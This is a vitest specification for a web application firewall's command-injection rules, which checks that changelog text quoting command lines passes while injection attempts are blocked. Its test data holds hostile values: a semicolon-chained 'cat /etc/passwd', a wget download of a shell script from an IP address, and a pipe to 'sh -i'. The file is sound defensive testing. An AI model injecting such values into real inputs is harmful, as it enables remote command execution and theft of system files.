import { describe, it } from 'vitest';
import { expectBlocked, expectDetected, expectNotFlaggedBy, json, waf } from './helpers.ts';

/*
 * Ordinary documents (READMEs, changelogs, package descriptions) quote command lines, paths and code.
 * These specifications pin the narrowings that let such text through at sensitivity 70 while the
 * attack shape each rule was written for is still caught.
 */

const NEWS = [
  'Changes in release 3.1 (2017-07-02) [stable]',
  '',
  '** Improvements',
  '',
  'The matcher no longer rescans the buffer for every line.',
  '',
  '  grep -i no longer issues a spurious "binary file" diagnostic.',
  '  echo a | grep -e x -- prints nothing',
].join('\n');

describe('RCE-100: a chained command within the first lines of a value', () => {
  it('allows a command line quoted after several lines of a changelog', () => {
    // Prepare
    const req = json({ title: 'doc', body: NEWS });
    // Act + Assess
    expectNotFlaggedBy(req, 'RCE-100');
  });

  it.each([
    ['a semicolon and cat of a system file', '127.0.0.1; cat /etc/passwd'],
    ['a line break and a download', 'report.pdf\nwget http://198.51.100.7/x.sh'],
    ['a blank line padded line break and id', '\n\n\nfoo\n\nid;'],
    ['a pipe to a shell on the second line', 'name\nx | sh -i'],
  ])('blocks %s at sensitivity 70', (_name, value) => {
    // Prepare
    const req = json({ host: value });
    // Act + Assess
    expectBlocked(req, 'RCE-100');
  });

  it('blocks the same command line deep in a multi-line value at sensitivity 80 (RCE-103)', () => {
    // Prepare
    const req = json({ title: 'doc', body: `${NEWS}\n; cat /etc/passwd` });
    // Act + Assess
    expectDetected(req, 'RCE-103', waf({ sensitivityScore: 80 }));
  });
});
